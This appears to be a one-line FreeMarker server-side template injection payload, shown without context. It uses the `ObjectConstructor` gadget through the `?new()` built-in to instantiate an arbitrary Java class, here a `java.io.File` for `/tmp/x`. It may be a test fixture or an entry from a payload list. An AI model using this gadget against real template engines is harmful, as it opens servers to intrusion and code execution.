<#assign make = "freemarker.template.utility.ObjectConstructor"?new()>${make("java.io.File", "/tmp/x")}
